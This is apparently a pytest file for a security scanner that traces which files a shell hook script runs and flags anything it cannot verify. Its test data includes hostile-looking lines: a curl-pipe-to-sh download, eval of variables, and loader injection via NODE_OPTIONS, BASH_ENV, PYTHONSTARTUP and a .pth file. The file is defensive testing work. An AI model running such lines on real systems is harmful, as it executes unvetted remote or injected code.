"""Issue 32 item 2, coverage that fails closed: a shell script's own commands.

A hook script's commands go through the same dispatch as a hook command
(``wskit.approval.coverage``): what it recognises is followed to the files it runs
(covered), everything else that can load or execute code is listed unverified as
``<script>:<line>: <word>``. On the previous main a script's commands other than
``source``/``.`` were not read at all: every case of ``UNVERIFIED`` came out complete
(nothing listed) and every case of ``FOLLOWED`` left the file it runs uncovered."""

from __future__ import annotations

import os

import pytest

from tests.security.test_approval_loads import _cov

LIB = {"lib/x.sh": "true\n", "lib/x.py": "print(1)\n", "lib/x.js": "1\n", "lib/p.awk": "{ print }\n",
       "lib/Makefile": "all:\n\ttrue\n", "lib/x.pl": "1;\n"}


# (id, the script's text, the unverified word's start, a part of the reason)
UNVERIFIED = [
    ("eval-computed", 'eval "$X"\n', "hooks/g.sh:1: eval", "eval runs text decided"),
    ("exec-computed", 'exec "$PROG" lib/x.sh\n', 'hooks/g.sh:1: "$PROG"', "the program is decided"),
    ("program-variable", '$RUNNER lib/x.py\n', "hooks/g.sh:1: $RUNNER", "the program is decided"),
    ("bash-c-variable", 'bash -c "$X"\n', 'hooks/g.sh:1: "$X"', "bash -c runs is decided"),
    ("sh-c-substitution", 'sh -c "$(cat lib/x.sh)"\n', "hooks/g.sh:1: ", "decided when the command runs"),
    ("xargs-sh", "xargs sh < list\n", "hooks/g.sh:1: ", "words xargs reads"),
    ("xargs-replace", "xargs -I{} python3 {}\n", "hooks/g.sh:1: -I{}", "xargs puts words"),
    ("env-split-string", "env -S 'sh lib/x.sh'\n", "hooks/g.sh:1: -S", "env -S"),
    ("curl-pipe-sh", "curl -s https://example.invalid/x | sh\n", "hooks/g.sh:1: sh", "standard input (a pipe)"),
    ("python-stdin", "python3 < \"$F\"\n", "hooks/g.sh:1: python", "standard input"),
    ("python-m-not-found", "python3 -m notinproject\n", "hooks/g.sh:1: python -m notinproject", "not found"),
    ("node-import-package", "node --import some-loader lib/x.js\n", "hooks/g.sh:1: some-loader", "node_modules"),
    ("node-loader-eq", "node --loader=$L lib/x.js\n", "hooks/g.sh:1: ", "node"),
    ("node-eval", "node -e \"$CODE\"\n", "hooks/g.sh:1: node -e", "inline code"),
    ("export-node-options", 'export NODE_OPTIONS="--require ./lib/x.js"\nnode lib/x.js\n', "hooks/g.sh:1: ",
     "NODE_OPTIONS"),
    ("pythonpath-prefix", "PYTHONPATH=lib python3 -c 'import x'\n", "hooks/g.sh:1: PYTHONPATH=lib", "PYTHONPATH"),
    ("pythonstartup", "export PYTHONSTARTUP=lib/x.py\n", "hooks/g.sh:1: PYTHONSTARTUP", "PYTHONSTARTUP"),
    ("bash-env", "BASH_ENV=lib/x.sh bash -c true\n", "hooks/g.sh:1: BASH_ENV", "BASH_ENV"),
    ("sh-env", "ENV=lib/x.sh\nexport ENV\n", "hooks/g.sh:1: ENV", "ENV"),
    ("awkpath", "AWKPATH=lib gawk -f p.awk\n", "hooks/g.sh:1: AWKPATH", "AWKPATH"),
    ("jq-library", "jq -L lib -n 1\n", "hooks/g.sh:1: lib", "jq -L"),
    ("make-f", "make -f lib/Makefile\n", "hooks/g.sh:1: make", "make runs"),
    ("perl-I", "perl -Ilib lib/x.pl\n", "hooks/g.sh:1: perl -Ilib", "perl option"),
    ("unknown-program", "mytool lib/x.sh\n", "hooks/g.sh:1: mytool", "wskit does not know"),
    ("git-config", "git status\n", "hooks/g.sh:1: git", "repository's configuration"),
    ("positional-unknown-in-sourced", ". lib/w.sh\n", "lib/w.sh:1: ", "decided when the command runs"),
    ("substitution-runs", 'x="$(python3 "$HELPER")"\n', 'hooks/g.sh:1: "$HELPER"', "python runs a script decided"),
    ("cd-computed-then-relative", 'cd "$D"\npython3 lib/x.py\n', "hooks/g.sh:2: lib/x.py", "cd to a folder decided"),
    ("unreadable-line", '[[ -n "$a" ]] && $(printf x)\ncase $a in b) echo;; esac\narr=(a b)\n'
                        '{ echo; } >&2 <(python3 lib/x.py\n', "hooks/g.sh:", "cannot read"),
    ("function-body-args", 'run() { exec "$@"; }\nrun python3 lib/x.py\n', 'hooks/g.sh:1: "$@"',
     "the program is decided"),
    ("here-document-expanded", "python3 - <<EOF\nimport $MOD\nEOF\n", "hooks/g.sh:1: python", "standard input"),
    # bashlex refuses a quoted here-document delimiter: the script is read line by line
    ("here-document-quoted", "python3 - <<'EOF'\nimport os\nEOF\n", "hooks/g.sh:", "cannot read"),
]


@pytest.mark.parametrize("script, word, reason", [c[1:] for c in UNVERIFIED], ids=[c[0] for c in UNVERIFIED])
def test_what_a_scripts_command_does_that_is_not_recognised_is_unverified(tmp_path, script, word, reason):
    files = {**LIB, "hooks/g.sh": script, "p.awk": "{ print }\n", "lib/w.sh": 'exec "$@"\n'}
    c = _cov(tmp_path, files, "sh hooks/g.sh")
    assert any(u.word.startswith(word) and reason in u.reason for u in c.unverified), c.unverified


# (id, files, command, the file whose edit must change the digest)
FOLLOWED = [
    ("bash-script", {**LIB, "hooks/g.sh": "bash lib/x.sh\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("python-script", {**LIB, "hooks/g.sh": "python3 lib/x.py\n"}, "sh hooks/g.sh", "lib/x.py"),
    ("node-script", {**LIB, "hooks/g.sh": "node lib/x.js\n"}, "sh hooks/g.sh", "lib/x.js"),
    ("node-import-file", {**LIB, "hooks/g.sh": "node --import ./lib/x.js tools/h.js\n", "tools/h.js": "1\n"},
     "sh hooks/g.sh", "lib/x.js"),
    ("executed-path", {**LIB, "hooks/g.sh": "./lib/x.sh\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("script-folder-path", {**LIB, "hooks/g.sh": 'python3 "$(dirname "$0")/../lib/x.py"\n'}, "sh hooks/g.sh",
     "lib/x.py"),
    ("project-dir-variable", {**LIB, "hooks/g.sh": 'python3 "$CLAUDE_PROJECT_DIR/lib/x.py"\n'}, "sh hooks/g.sh",
     "lib/x.py"),
    ("script-variable", {**LIB, "hooks/g.sh": 'HERE="$(cd "$(dirname "$0")" && pwd)"\nbash "$HERE/../lib/x.sh"\n'},
     "sh hooks/g.sh", "lib/x.sh"),
    ("eval-literal", {**LIB, "hooks/g.sh": "eval '. lib/x.sh'\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("command-prefix", {**LIB, "hooks/g.sh": "command . lib/x.sh\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("builtin-prefix", {**LIB, "hooks/g.sh": "builtin source lib/x.sh\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("exec-literal", {**LIB, "hooks/g.sh": "exec python3 lib/x.py\n"}, "sh hooks/g.sh", "lib/x.py"),
    ("env-wrapper", {**LIB, "hooks/g.sh": "env -i FOO=1 bash lib/x.sh\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("timeout-wrapper", {**LIB, "hooks/g.sh": "timeout 5 node lib/x.js\n"}, "sh hooks/g.sh", "lib/x.js"),
    ("substitution", {**LIB, "hooks/g.sh": 'out="$(python3 lib/x.py)"\n'}, "sh hooks/g.sh", "lib/x.py"),
    ("pipeline-stage", {**LIB, "hooks/g.sh": "cat | python3 lib/x.py\n"}, "sh hooks/g.sh", "lib/x.py"),
    ("here-document", {**LIB, "hooks/g.sh": "python3 - <<EOF\nimport runpy\nrunpy.run_path('lib/x.py')\nEOF\n"},
     "sh hooks/g.sh", "lib/x.py"),
    ("stdin-file", {**LIB, "hooks/g.sh": "sh < lib/x.sh\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("function-call", {**LIB, "hooks/g.sh": "check() { python3 lib/x.py; }\ncheck\n"}, "sh hooks/g.sh", "lib/x.py"),
    ("after-cd-script-folder", {**LIB, "hooks/g.sh": 'cd "$(dirname "$0")"\npython3 ../lib/x.py\n'}, "sh hooks/g.sh",
     "lib/x.py"),
    ("in-fallback-case-arm", {**LIB, "hooks/g.sh": "case $1 in\n  a) python3 lib/x.py ;;\nesac\n[[ -n x ]]\n"},
     "sh hooks/g.sh", "lib/x.py"),
    ("awk-f", {**LIB, "hooks/g.sh": "awk -f lib/p.awk\n"}, "sh hooks/g.sh", "lib/p.awk"),
    ("script-runs-script", {**LIB, "hooks/g.sh": "bash hooks/h.sh\n", "hooks/h.sh": "python3 lib/x.py\n"},
     "sh hooks/g.sh", "lib/x.py"),
    ("python-m-in-project", {**LIB, "hooks/g.sh": "python3 -m tool\n", "tool/__init__.py": "",
                             "tool/__main__.py": "1\n"}, "sh hooks/g.sh", "tool/__main__.py"),
    ("node-package-type", {**LIB, "hooks/g.sh": "node tools/h.js\n", "tools/h.js": "1\n",
                           "package.json": '{"type": "commonjs"}'}, "sh hooks/g.sh", "package.json"),
]


@pytest.mark.parametrize("files, command, edited", [c[1:] for c in FOLLOWED], ids=[c[0] for c in FOLLOWED])
def test_what_a_scripts_command_runs_is_covered(tmp_path, files, command, edited):
    before = _cov(tmp_path, files, command)
    assert not before.unverified, before.unverified
    target = tmp_path / "project" / edited
    target.write_text(target.read_text() + "\n")
    assert _cov(tmp_path, files, command).digest() != before.digest()


# each kind of file followed: (id, files, command, file)
KINDS = [
    ("sourced", {"hooks/g.sh": ". lib/x.sh\n", "lib/x.sh": "#!/bin/sh\ntrue\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("run-by-script", {"hooks/g.sh": "lib/x.sh\n", "lib/x.sh": "#!/bin/sh\ntrue\n"}, "sh hooks/g.sh", "lib/x.sh"),
    ("wrapper-argument", {"hooks/w.sh": 'exec "$@"\n', "lib/x.py": "#!/usr/bin/env python3\n1\n"},
     "sh hooks/w.sh ./lib/x.py", "lib/x.py"),
    ("python-import", {"hooks/c.py": "import sys\nsys.path.insert(0, 'lib')\nimport m\n",
                       "lib/m.py": "#!/usr/bin/env python3\n1\n"}, "python3 hooks/c.py", "lib/m.py"),
    ("node-imports-target", {"package.json": '{"imports": {"#m": "./lib/m.js"}}', "tools/a.js": "require('#m')\n",
                             "lib/m.js": "#!/usr/bin/env node\n1\n"}, "node tools/a.js", "lib/m.js"),
    ("awk-include", {"p.awk": '@include "lib/i.awk"\n', "lib/i.awk": "#!/usr/bin/gawk -f\n1\n"}, "gawk -f p.awk",
     "lib/i.awk"),
]


@pytest.mark.parametrize("files, command, rel", [c[1:] for c in KINDS], ids=[c[0] for c in KINDS])
def test_the_executable_bit_and_interpreter_line_of_each_followed_file_are_in_the_digest(tmp_path, files, command, rel):
    before = _cov(tmp_path, files, command)
    path = tmp_path / "project" / rel
    assert str(path) in [f.path for f in before.files], before.files
    os.chmod(path, path.stat().st_mode ^ 0o111)
    flipped = _cov(tmp_path, files, command)
    assert flipped.digest() != before.digest()
    os.chmod(path, path.stat().st_mode ^ 0o111)
    assert _cov(tmp_path, files, command).digest() == before.digest()
    head, rest = path.read_text().split("\n", 1)
    path.write_text("#!/usr/bin/perl\n" + rest)
    assert _cov(tmp_path, files, command).digest() != before.digest()


def test_a_site_folder_holding_a_pth_file_is_unverified(tmp_path):
    files = {"hooks/c.py": "import site\nsite.addsitedir('lib')\n", "lib/a.pth": "import evil\n"}
    c = _cov(tmp_path, files, "python3 hooks/c.py")
    assert any(u.word.startswith("hooks/c.py:2: ") and ".pth" in u.reason for u in c.unverified), c.unverified


def test_sitecustomize_beside_a_script_is_covered(tmp_path):
    """Python imports ``sitecustomize`` from ``sys.path``; one beside the script (or
    created there later) is in the importable listing the digest covers."""
    files = {"hooks/c.py": "print(1)\n"}
    before = _cov(tmp_path, files, "python3 hooks/c.py")
    (tmp_path / "project/hooks/sitecustomize.py").write_text("import os\n")
    assert _cov(tmp_path, files, "python3 hooks/c.py").digest() != before.digest()


def test_a_script_that_assigns_a_known_variable_is_not_taken_at_the_environments_value(tmp_path):
    files = {**LIB, "hooks/g.sh": 'CLAUDE_PROJECT_DIR=/elsewhere\npython3 "$CLAUDE_PROJECT_DIR/lib/x.py"\n'}
    c = _cov(tmp_path, files, "sh hooks/g.sh")
    assert str(tmp_path / "project/lib/x.py") not in [f.path for f in c.files if f.digest]
    assert any(u.word.startswith("hooks/g.sh:2: ") for u in c.unverified) or \
        "/elsewhere/lib/x.py" not in [f.path for f in c.files], c


def test_a_wrapper_follows_literal_arguments_and_lists_computed_ones(tmp_path):
    """The security-guidance plugin's pattern: ``bash sg-python.sh HOOK.py``, where
    ``sg-python.sh`` ends in ``exec python3 "$@"``."""
    files = {"hooks/sg-python.sh": '#!/bin/bash\nset -euo pipefail\nexec python3 "$@"\n',
             "hooks/hook.py": "import sys, os\nsys.path.insert(0, os.path.join(os.path.dirname(__file__), '..', "
                              "'lib'))\nimport shared\n", "lib/shared.py": "1\n"}
    command = 'bash "$CLAUDE_PROJECT_DIR/hooks/sg-python.sh" "$CLAUDE_PROJECT_DIR/hooks/hook.py"'
    before = _cov(tmp_path, files, command)
    assert not before.unverified, before.unverified
    (tmp_path / "project/lib/shared.py").write_text("import os\n")
    assert _cov(tmp_path, files, command).digest() != before.digest()
    computed = _cov(tmp_path, files, 'bash hooks/sg-python.sh "$HOOK"')
    assert any(u.word.startswith("hooks/sg-python.sh:3: ") for u in computed.unverified), computed.unverified


def test_the_scanner_reads_hostile_scripts_without_raising(tmp_path):
    for text in ("exec " * 3000, '"$@" ' * 2000, "f() { f; }\nf\n", "$(" * 200, "case x in\n" * 500,
                 "a)" * 1000, "\udc80 $1\n", "eval eval eval '$X'\n", "set -- a\n\"$@\"\n"):
        c = _cov(tmp_path, {"hooks/g.sh": text}, "sh hooks/g.sh x y")
        assert isinstance(c.digest(), str)
